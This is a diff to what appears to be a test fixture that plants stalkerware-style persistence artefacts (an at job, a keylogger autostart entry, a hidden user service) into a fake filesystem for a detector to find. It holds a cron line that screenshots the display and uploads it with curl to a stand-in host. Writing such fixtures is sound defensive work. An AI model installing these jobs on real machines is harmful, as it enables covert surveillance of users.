@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import shlex
 import shutil
 import subprocess
@@ -11,6 +12,7 @@ from pathlib import Path
 from tests.planted.base import Fact, Tree
 
 SCREEN_JOB = "*/5 * * * * DISPLAY=:0 scrot -o /home/alice/.cache/.s.png && curl -s -F f=@/home/alice/.cache/.s.png https://x.example/"
+JOB = "/var/spool/cron/atjobs/a0000101e18894"  # the first job, for 03:00 UTC on the first day of 2030
 FACTS = (
     Fact("stalkerware/scheduled-commands", "/var/spool/cron/crontabs/alice: scrot",
          "a job that takes pictures of the screen and sends them", "crontab"),
@@ -18,6 +20,11 @@ FACTS = (
     Fact("stalkerware/odd-autostart", "/etc/systemd/system/upd.service: /opt/.upd/upd", "a service in a hidden folder", "systemctl"),
     Fact("stalkerware/odd-autostart", "~/.config/autostart/update.desktop: ~/.gconf-cache/upd", "a hidden program at login"),
     Fact("stalkerware/odd-autostart", "/etc/cron.d/tmp: /var/tmp/run", "a job in a temporary folder"),
+    Fact("stalkerware/odd-autostart", f"{JOB}: /var/tmp/later", "a job for one later time", "at"),
+    Fact("stalkerware/scheduled-commands", "/etc/xdg/autostart/keys.desktop: /opt/keys.py",
+         "a program at everybody's login that reads keys"),
+    Fact("stalkerware/personal-autostart", "~/.config/systemd/user/helper.service: ~/.local/bin/helper",
+         "a personal service of no great name"),
     Fact("stalkerware/unpackaged-services", "/opt/.upd/upd", "a service of no package", "dpkg"),
     Fact("stalkerware/changed-programs", "/usr/sbin/helperd", "a packaged program that was changed", "dpkg"),
     Fact("stalkerware/shell-startup", "~/.bashrc: with code that it downloads", "code fetched for each terminal"),
@@ -47,6 +54,9 @@ eval "$(starship init bash)"
 
 def plant(tree: Tree) -> None:
     _cron(tree, "alice", SCREEN_JOB)
+    _at(tree, "/var/tmp/later")
+    tree.write("/opt/keys.py", "from pynput import keyboard\n")
+    tree.write("/etc/xdg/autostart/keys.desktop", ENTRY.format("Keys", "/usr/bin/python3 /opt/keys.py"))
     tree.write("/etc/cron.d/tmp", "@hourly root /var/tmp/run\n")
     _packaged(tree)
     if tree.has("dpkg"):
@@ -65,6 +75,10 @@ def plant(tree: Tree) -> None:
         ),
     )
     tree.write(f"{units}/mic.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
+    tree.write(f"{units}/helper.service", UNIT.format("Helper", "%h/.local/bin/helper", ""))
+    wants = tree.at(f"{units}/default.target.wants")
+    wants.mkdir()
+    (wants / "helper.service").symlink_to("../helper.service")
     wants = tree.at(f"{units}/timers.target.wants")
     wants.mkdir()
     (wants / "mic.timer").symlink_to("../mic.timer")
@@ -143,6 +157,24 @@ def _cron(tree: Tree, user: str, line: str) -> None:
     mounts = {"/var/spool/cron/crontabs": place.parent, "/etc/passwd": tree.at("/etc/passwd")}
     _with_mounts(tree, mounts, ["crontab", "-u", user, str(table)])
     table.unlink()
+
+
+def _at(tree: Tree, command: str) -> None:
+    """at(1) keeps its jobs where only its own account may write."""
+    spool = tree.at(JOB).parent
+    number = tree.write("/var/spool/cron/atjobs/.SEQ", "0")
+    if os.geteuid() == 0 and tree.has("at"):
+        for path in (spool, number):
+            shutil.chown(path, "daemon", "daemon")
+        job = tree.write("/tmp/job", command + "\n")
+        at = ["at", "-f", str(job), "03:00", "2030-01-01"]
+        _with_mounts(tree, {"/var/spool/cron/atjobs": spool}, ["env", "TZ=UTC", *at])
+        job.unlink()
+    if not tree.at(JOB).exists():
+        tree.write(
+            JOB,
+            f"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\ncd / || {{\n\t exit 1\n}}\n{command}\n",
+        )
 
 
 def _with_mounts(tree: Tree, mounts: Mapping[str, Path], command: list[str]) -> bool:
